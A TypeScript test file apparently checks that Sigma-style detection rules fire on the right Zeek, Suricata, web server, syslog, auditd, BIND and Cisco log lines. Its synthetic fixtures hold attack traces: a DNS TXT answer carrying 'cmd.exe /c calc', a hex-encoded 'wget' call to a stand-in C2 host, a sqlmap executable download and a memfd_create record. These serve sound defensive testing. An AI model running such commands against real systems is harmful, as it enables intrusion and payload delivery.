import { expect, test } from 'vitest'
import { fires } from './rule-on-line.ts'

const times = { ts: 1_767_580_200.5, uid: 'C1' }
const ends = {
  'id.orig_h': '10.0.0.5',
  'id.orig_p': 40_000,
  'id.resp_h': '203.0.113.7',
  'id.resp_p': 80,
}
const zeekDns = JSON.stringify({
  _path: 'dns',
  ...times,
  ...ends,
  trans_id: 7,
  query: 'a.c2.example',
  qtype_name: 'TXT',
  rcode_name: 'NOERROR',
  answers: ['TXT 20 cmd.exe /c calc', '203.0.113.9'],
})
const zeekHttp = JSON.stringify({
  _path: 'http',
  ...times,
  ...ends,
  trans_depth: 1,
  method: 'GET',
  host: 'www.example.vn',
  uri: '/tai/x.exe?id=1',
  user_agent: 'sqlmap/1.9',
  status_code: 200,
  username: 'lan',
  referrer: 'http://a.vn/',
  version: '1.1',
  response_body_len: 77,
  request_body_len: 5,
})
const eve = (event_type: string, parts: object) =>
  JSON.stringify({
    timestamp: '2026-01-05T09:30:00.000000+0700',
    flow_id: 1,
    event_type,
    proto: 'TCP',
    src_ip: '10.0.0.5',
    src_port: 40_000,
    dest_ip: '203.0.113.7',
    dest_port: 80,
    ...parts,
  })
const eveHttp = eve('http', {
  http: {
    hostname: 'www.example.vn',
    url: '/tai/x.exe?id=1',
    http_user_agent: 'sqlmap/1.9',
    http_method: 'GET',
    http_refer: 'http://a.vn/',
    protocol: 'HTTP/1.1',
    status: 200,
    length: 77,
  },
})
const question = { rrname: 'a.c2.example', rrtype: 'TXT' }
const answer = { ...question, rdata: 'cmd.exe /c calc' }
const eveDns = {
  v1: eve('dns', { dns: { type: 'answer', id: 7, rcode: 'NOERROR', ...answer } }),
  v2: eve('dns', { dns: { version: 2, type: 'answer', ...question, answers: [answer] } }),
  v3: eve('dns', { dns: { version: 3, type: 'response', queries: [question], answers: [answer] } }),
  grouped: eve('dns', { dns: { version: 2, ...question, grouped: { TXT: [answer.rdata] } } }),
}
const access =
  '203.0.113.7 - lan [05/Jan/2026:09:30:00 +0700] "GET /tai/x.exe?id=1 HTTP/1.1" 200 77 "http://a.vn/" "sqlmap/1.9"'

test.each(Object.entries({ zeek: zeekDns, ...eveDns }))(
  'rules for any DNS log see %s, Windows rules do not',
  (_, line) => {
    const selection = {
      'query|endswith': '.c2.example',
      QueryName: 'a.c2.example',
      record_type: 'TXT',
      'answer|contains': 'cmd.exe',
      dst_ip: '203.0.113.7',
      dst_port: 80,
      'src_ip|cidr': '10.0.0.0/8',
    }
    expect(fires({ category: 'dns' }, selection, line)).toBe(true)
    expect(fires({ category: 'dns' }, { ...selection, record_type: 'A' }, line)).toBe(false)
    for (const logsource of [
      { product: 'windows', category: 'dns' },
      { category: 'dns_query' },
      { category: 'proxy' },
      { product: 'windows' },
    ]) {
      expect(fires(logsource, { query: '*' }, line)).toBe(false)
    }
  },
)

const request = {
  'c-uri|contains': '/tai/x.exe',
  'cs-uri|endswith': '?id=1',
  'cs-uri-query|startswith': 'id=',
  'c-uri-query|contains|all': ['/tai/', 'id=1'],
  'cs-uri-stem': '/tai/x.exe',
  'c-uri-extension': 'exe',
  'cs-method': 'GET',
  'c-useragent|startswith': 'sqlmap',
  'cs-user-agent': 'sqlmap/1.9',
  'cs-referer': 'http://a.vn/',
  'cs-referrer': 'http://a.vn/',
  'cs-version': '1.1',
  'sc-status': 200,
  'sc-bytes': 77,
}
const onTheWire = {
  ...request,
  'cs-host|endswith': '.example.vn',
  'r-dns': 'www.example.vn',
  'c-uri|startswith': 'http://www.example.vn/',
  'c-ip': '10.0.0.5',
  's-ip': '203.0.113.7',
  dst_ip: '203.0.113.7',
  dst_port: 80,
}

test.each([
  ['zeek', zeekHttp],
  ['suricata', eveHttp],
])('rules for proxies and web servers see requests of %s', (product, line) => {
  for (const category of ['proxy', 'webserver']) {
    expect(fires({ category }, onTheWire, line)).toBe(true)
    expect(fires({ category }, ['SQLMAP'], line)).toBe(true)
    expect(fires({ product, category }, { 'cs-method': 'GET' }, line)).toBe(true)
    expect(fires({ category }, { ...onTheWire, 'sc-status': 404 }, line)).toBe(false)
    expect(fires({ category }, { 'cs-cookie': '*' }, line)).toBe(false)
  }
  for (const logsource of [{ category: 'dns' }, { product: 'windows', category: 'webserver' }]) {
    expect(fires(logsource, ['sqlmap'], line)).toBe(false)
  }
})

test("Zeek's rules may use the names of proxies", () => {
  const zeek = { product: 'zeek', service: 'http' }
  expect(fires(zeek, { 'c-uri|endswith': '.exe?id=1', uri: '*', 'id.resp_p': 80 }, zeekHttp)).toBe(
    true,
  )
  expect(fires(zeek, { 'cs-username': 'lan', 'cs-bytes': 5 }, zeekHttp)).toBe(true)
})

test('an alert of Suricata that tells of a request is no line of a proxy', () => {
  const alert = JSON.parse(eveHttp)
  const line = JSON.stringify({
    ...alert,
    event_type: 'alert',
    alert: { signature: 'thử', signature_id: 1, severity: 3 },
  })
  expect(fires({ category: 'proxy' }, { 'cs-method': 'GET' }, line)).toBe(false)
  expect(
    fires({ product: 'suricata', service: 'alert' }, { 'http.http_method': 'GET' }, line),
  ).toBe(true)
})

test.each([
  ['as it stands', access],
  ['in syslog', `<190>Jan  5 09:30:00 web-01 nginx: ${access}`],
])('rules for web servers see an access log %s, those for proxies do not', (_, line) => {
  const webserver = { category: 'webserver' }
  const selection = { ...request, 'c-ip': '203.0.113.7', 'cs-username': 'lan' }
  expect(fires(webserver, selection, line)).toBe(true)
  expect(fires({ category: 'proxy' }, selection, line)).toBe(false)
  expect(fires(webserver, { 'cs-host': '*' }, line)).toBe(false)
})

test.each([
  ['named', 'client @0x7f 192.0.2.9#53: zone transfer denied AXFR from x', 'syslog', true],
  ['CRON', '(root) REPLACE (root)', 'cron', true],
  ['crond', '(root) REPLACE (root)', 'syslog', true],
  ['guacd', '(2 users now present)', 'guacamole', true],
  ['sshd', 'stopping firewalld', 'syslog', false],
  ['sshd', 'stopping firewalld', 'auth', true],
  ['pkexec', 'lan: The value for environment', 'auth', true],
  ['apache2', '[core:error] AH00126: Invalid URI', 'apache', true],
])('the lines of %s (%s) are of service %s: %s', (program, message, service, expected) => {
  const line = `<30>Jan  5 09:30:00 may-01 ${program}[7]: ${message}`
  expect(fires({ product: 'linux', service }, [message.slice(3, 12)], line)).toBe(expected)
})

const auditd = { product: 'linux', service: 'auditd' }
const execve =
  'type=EXECVE msg=audit(1795316400.965:93777): argc=3 a0="wget" a1="-q" a2=687474703A2F2F63322E6578616D706C65'
const memfd =
  'type=SYSCALL msg=audit(1795316400.965:9): syscall=319 exe="/usr/bin/python3" key="m"\u001dSYSCALL=memfd_create'

test.each([
  ['as it stands', ''],
  ['with its host', 'node=web-01 '],
  ['in syslog', '<30>Nov 22 09:59:59 web-01 audispd: node=web-01 '],
])('rules for auditd see fields of the audit log %s', (_, before) => {
  const selection = { type: 'EXECVE', a0: 'wget', 'a2|startswith': 'http://c2.' }
  expect(fires(auditd, selection, before + execve)).toBe(true)
  expect(fires(auditd, { ...selection, a0: 'curl' }, before + execve)).toBe(false)
  expect(fires({ product: 'linux' }, ['EXECVE'], before + execve)).toBe(true)
  expect(
    fires(auditd, { type: 'SYSCALL', SYSCALL: 'memfd_create', key: 'm' }, before + memfd),
  ).toBe(true)
  expect(fires({ product: 'linux', service: 'syslog' }, ['wget'], before + execve)).toBe(false)
})

test.each([
  ['%AAA-5-USER_LOGGED', 'aaa'],
  ['%PARSER-5-CFGLOG_LOGGEDCMD', 'aaa'],
  ['%TCP-6-BADAUTH', 'bgp'],
  ['%WEBUI-6-INSTALL_OPERATION_INFO', 'syslog'],
])('the line %s of Cisco is of service %s', (tag, service) => {
  const line = `<189>Nov 22 09:59:59 rt-01 ${tag}: User: cisco_support`
  expect(fires({ product: 'cisco', service }, { '|all': [tag, 'cisco_support'] }, line)).toBe(true)
  expect(fires({ product: 'cisco', service: 'duo' }, [tag], line)).toBe(false)
})

test.each([
  [
    'in syslog',
    '<30>Nov 22 09:59:59 ns-01 named[812]: client @0x7f 192.0.2.10#53124 (a.c2.example): ',
  ],
  ['in a file', '22-Nov-2026 09:59:59.123 queries: info: client 192.0.2.10#53124 (a.c2.example): '],
])('rules for any DNS log see the questions BIND logs %s', (_, before) => {
  const line = `${before}query: a.c2.example IN TXT +E(0)K (198.51.100.53)`
  const selection = { query: 'a.c2.example', record_type: 'TXT', src_ip: '192.0.2.10' }
  expect(fires({ category: 'dns' }, selection, line)).toBe(true)
  expect(fires({ category: 'dns' }, { query: 'b.example' }, line)).toBe(false)
  expect(fires({ product: 'linux', service: 'syslog' }, ['c2.example'], line)).toBe(true)
  expect(fires({ product: 'windows', category: 'dns' }, { query: '*' }, line)).toBe(false)
})
